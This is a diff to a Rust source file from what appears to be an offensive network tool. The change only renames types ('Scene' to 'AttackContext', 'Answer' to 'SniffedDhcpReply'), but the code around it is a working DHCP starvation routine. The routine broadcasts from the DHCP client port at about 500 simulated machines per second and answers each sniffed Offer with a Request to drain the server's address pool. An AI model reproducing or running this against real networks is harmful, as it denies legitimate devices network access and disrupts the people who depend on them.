@@ -6,15 +6,15 @@ use anyhow::Context as _;
 use tokio::{net::UdpSocket, time};
 
 use super::{
-    DEVICE, Scene, count,
-    packets::{self, Answer},
+    AttackContext, DEVICE, count,
+    packets::{self, SniffedDhcpReply},
 };
 
 /// Five hundred new machines a second: more than any site switches on.
 const EVERY: Duration = Duration::from_millis(2);
 const PACKET_BYTES_MAX: usize = 2048;
 
-pub(super) async fn starve(scene: Scene) -> anyhow::Result<()> {
+pub(super) async fn starve(scene: AttackContext) -> anyhow::Result<()> {
     let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 68)).await.context("opening the DHCP client's port")?;
     socket.set_broadcast(true).context("allowing broadcasts")?;
     socket.bind_device(Some(DEVICE.as_bytes())).context("choosing the wire")?;
@@ -34,12 +34,12 @@ pub(super) async fn starve(scene: Scene) -> anyhow::Result<()> {
             received = socket.recv(&mut buffer) => {
                 let Ok(length) = received else { continue };
                 match packets::read(&buffer[..length]) {
-                    Some(Answer::Offer { mac, address, server }) => {
+                    Some(SniffedDhcpReply::Offer { mac, address, server }) => {
                         let request = packets::request(mac, address, server);
                         socket.send_to(&request, everyone).await.map(drop).unwrap_or_else(super::ignore);
                     }
-                    Some(Answer::Ack) => count(&scene.counters.acks, 1),
-                    Some(Answer::Other) | None => {}
+                    Some(SniffedDhcpReply::Ack) => count(&scene.counters.acks, 1),
+                    Some(SniffedDhcpReply::Other) | None => {}
                 }
             }
         }
